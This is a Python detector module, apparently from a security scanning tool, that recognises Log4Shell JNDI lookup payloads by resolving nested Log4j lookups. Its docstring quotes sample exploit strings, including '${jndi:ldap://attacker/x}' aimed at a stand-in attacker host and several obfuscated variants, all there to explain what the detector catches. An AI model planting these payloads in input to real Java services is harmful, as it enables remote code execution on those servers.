"""Log4Shell: a JNDI lookup for a Java logger to resolve, however it is disguised.

Log4j 2 resolves ``${prefix:key}`` lookups in logged text, innermost first, and the exploit
(CVE-2021-44228) is ``${jndi:ldap://attacker/x}``. Payloads hide the word ``jndi`` behind other
lookups that resolve to letters: ``${${lower:j}ndi:...}``, ``${${::-j}${::-n}di:...}``,
``${${env:NOPE:-j}ndi:...}``, ``${${date:'j'}ndi:...}``. The detector resolves lookups the way
Log4j does, innermost first (``lower``/``upper`` case the key, ``date`` with a quoted literal
gives the literal, ``:-`` gives the default, anything else an opaque placeholder) until no
lookup is left, bounded by :data:`MAX_ROUNDS`, and flags any lookup that reads ``jndi:``.
A lookup nested in another lookup's name (``${${...}...}``) is flagged too: a logger's own
configuration has no use for it in request data. ``${HOME}`` or ``${price}`` stay clean.
"""

from __future__ import annotations

import re

from vigil.signatures.detection import Attack, Detection, excerpt

MAX_SCAN = 16384
"""Characters of a value that are inspected (from the start)."""
MAX_ROUNDS = 32
"""Rounds of innermost-lookup resolution (each resolves every innermost lookup)."""

ROUTE = r"\$\{"
"""RE2 pattern that every value this detector can flag matches."""
_INNERMOST = re.compile(r"\$\{([^${}]{0,256})\}")
_JNDI = re.compile(r"^\s*j\s*n\s*d\s*i\s*:", re.IGNORECASE)
_NESTED = re.compile(r"\$\{[^}]{0,64}\$\{", re.DOTALL)
_OPAQUE = "\x00"


def _resolve(content: str) -> str:
    if _JNDI.match(content):
        return "\x01jndi:" + content.split(":", 1)[1]
    if ":-" in content:
        return content.split(":-", 1)[1]
    prefix, _, key = content.partition(":")
    prefix = prefix.strip().lower()
    if prefix == "lower":
        return key.lower()
    if prefix == "upper":
        return key.upper()
    if prefix == "date":
        return key.strip().strip("'\"")
    return _OPAQUE


def detect_jndi(text: str) -> Detection | None:
    """A :class:`Detection` when ``text`` holds a (possibly disguised) JNDI lookup."""
    if "${" not in text:
        return None
    value = text[:MAX_SCAN]
    resolved = value
    for _ in range(MAX_ROUNDS):
        following = _INNERMOST.sub(lambda m: _resolve(m.group(1)), resolved)
        if "\x01jndi:" in following:
            start = value.find("${")
            return Detection(Attack.JNDI, "JNDI lookup", excerpt(value, start))
        if following == resolved:
            break
        resolved = following
    nested = _NESTED.search(value)
    if nested is not None:
        return Detection(Attack.JNDI, "lookup nested in a lookup", excerpt(value, nested.start()))
    return None
